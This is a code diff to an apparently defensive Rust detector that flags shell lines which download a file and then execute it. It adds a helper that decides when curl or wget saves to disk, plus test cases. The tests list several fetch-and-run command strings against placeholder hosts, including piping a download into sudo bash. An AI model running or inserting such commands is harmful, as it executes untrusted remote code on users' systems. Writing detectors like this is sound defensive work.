@@ -143,9 +143,7 @@ fn saved_and_run(line: &str) -> bool {
     }
     let commands = split_commands(line);
     commands.iter().enumerate().any(|(at, fetch)| {
-        let mut words = fetch.split_whitespace();
-        let fetched = program(&mut words).is_some_and(|p| FETCHERS.contains(&p));
-        fetched
+        saves(fetch)
             && commands[at + 1..]
                 .iter()
                 .filter_map(|command| run_file(command))
@@ -154,6 +152,37 @@ fn saved_and_run(line: &str) -> bool {
                     name.len() > 1 && fetch.contains(name)
                 })
     })
+}
+
+/// Whether `command` downloads into a file: `curl` with `-o`, `-O` (alone or among other
+/// short options) or `--output`/`--remote-name`; `wget` unless to its output (`-O -`); the
+/// other fetchers always (`aria2c`, PowerShell's `-OutFile`).
+fn saves(command: &str) -> bool {
+    let mut words = command.split_whitespace();
+    let Some(program) = program(&mut words) else {
+        return false;
+    };
+    let options = || command.split_whitespace().filter(|w| w.starts_with('-'));
+    match program {
+        "curl" => options().any(|w| {
+            w.starts_with("--output")
+                || w.starts_with("--remote-name")
+                || (!w.starts_with("--") && w.contains('o'))
+        }),
+        "wget" => {
+            let words: Vec<&str> = command.split_whitespace().collect();
+            let short = |w: &str| w.starts_with('-') && !w.starts_with("--");
+            let to_output = words
+                .windows(2)
+                .any(|p| short(p[0]) && p[0].ends_with('o') && p[1] == "-")
+                || words
+                    .iter()
+                    .any(|w| (short(w) && w.ends_with("o-")) || *w == "--output-document=-");
+            !to_output
+        }
+        "base64" | "xxd" => false,
+        p => FETCHERS.contains(&p),
+    }
 }
 
 /// `line` split into its commands at `&&`, `||`, `;`, `&` and `|`.
@@ -232,6 +261,7 @@ mod tests {
             "wget -qO- https://x.example/i | sudo -E -u admin /bin/bash -s",
             "curl -fsSLo /tmp/b.sh https://x.example/b.sh && sh /tmp/b.sh",
             "wget https://x.example/install.sh; bash install.sh --yes",
+            "wget https://foo-bar.example/install.sh && bash install.sh",
             "curl -O https://x.example/setup && chmod +x setup && ./setup",
             "python3 -c \"$(curl -s https://x.example/p.py)\"",
             "node -e \"$(curl -s https://x.example/a.js)\"",
@@ -262,6 +292,9 @@ mod tests {
             "wget https://x.example/data.csv && python3 load.py data.csv",
             "python3 load.py \"$(curl -s https://api.example/ip)\"",
             "cargo build && ./target/debug/app",
+            "curl -s https://api.example/v1/build | jq . && ./build",
+            "wget -qO- https://api.example/setup && ./setup",
+            "wget -O - https://api.example/setup && ./setup",
         ] {
             assert!(!into_a_shell(text), "{text}");
         }
